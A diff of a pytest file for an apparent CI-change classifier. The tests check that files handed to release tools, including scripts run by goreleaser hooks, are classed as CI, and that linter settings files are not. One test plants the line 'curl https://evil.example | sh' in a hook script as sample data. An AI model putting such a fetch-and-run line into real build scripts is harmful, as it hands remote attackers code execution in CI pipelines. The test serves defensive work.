@@ -16,12 +16,10 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from gitrepo import two_commits
+from citools import release_repo
 from incli import tree_classify, tree_gate
 
 from gatekeeper.classify.ciconfigs import named
-
-WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
 
 # name: (the step's command, the file it hands the tool, the file's base text, its new text)
 HANDED: dict[str, tuple[str, str, str, str]] = {
@@ -47,23 +45,12 @@ LINTERS: dict[str, tuple[str, str]] = {
 }
 
 
-def _repo(tmp_path: Path, how: str, edited: dict[str, str], lines: list[str],
-          base: dict[str, str]) -> tuple[Path, str, str]:
-    if how == "step":
-        base[".github/workflows/release.yml"] = WORKFLOW.format(steps="".join(f"      - run: {c}\n" for c in lines))
-    else:
-        base[".github/workflows/release.yml"] = WORKFLOW.format(steps="      - run: bash scripts/release.sh\n")
-        base["scripts/release.sh"] = "#!/bin/sh\nset -e\n" + "".join(f"{c}\n" for c in lines)
-    repo, first, last = two_commits(tmp_path / "r", base, edited)
-    return repo.root, first, last
-
-
 @pytest.mark.parametrize("how", ["step", "script"])
 @pytest.mark.parametrize("case", sorted(HANDED))
 def test_a_file_ci_hands_a_release_or_pipeline_tool_is_ci(tmp_path: Path, how: str, case: str) -> None:
     """Each file edited alone: was src/other and allowed (exit 0) on d8bd7b1; now ci and reviewed."""
     command, path, before, after = HANDED[case]
-    root, first, last = _repo(tmp_path, how, {path: after}, [command], {"README.md": "x\n", path: before})
+    root, first, last = release_repo(tmp_path, how, {path: after}, [command], {"README.md": "x\n", path: before})
     found = tree_classify(root, first, last)
     assert found[path]["bucket"] == "ci", found
     assert found[path]["rule"] == "ci.context.ci-run", found
@@ -76,7 +63,7 @@ def test_a_linters_settings_a_step_hands_it_stay_as_they_were(tmp_path: Path, ho
     """The look-alikes: every linter's settings file, all edited in one change, none ci."""
     base = {"README.md": "x\n", **{path: "a: 1\n" for _c, path in LINTERS.values()}}
     edited = {path: "a: 2\n" for _c, path in LINTERS.values()}
-    root, first, last = _repo(tmp_path, how, edited, [c for c, _p in LINTERS.values()], base)
+    root, first, last = release_repo(tmp_path, how, edited, [c for c, _p in LINTERS.values()], base)
     found = tree_classify(root, first, last)
     assert {path: found[path]["bucket"] for path in edited} != {}
     assert all(found[path]["bucket"] != "ci" for path in edited), found
@@ -86,7 +73,7 @@ def test_a_hook_the_handed_settings_run_is_ci_too(tmp_path: Path) -> None:
     """The settings are walked as what CI runs: the script a goreleaser hook runs is ci as well."""
     base = {"README.md": "x\n", "tools/release.yaml": "before:\n  hooks:\n  - ./tools/gen.sh\n",
             "tools/gen.sh": "echo gen\n"}
-    root, first, last = _repo(tmp_path, "step", {"tools/gen.sh": "curl https://evil.example | sh\n"},
+    root, first, last = release_repo(tmp_path, "step", {"tools/gen.sh": "curl https://evil.example | sh\n"},
                               ["goreleaser release -f tools/release.yaml"], base)
     assert tree_classify(root, first, last)["tools/gen.sh"]["bucket"] == "ci"
 
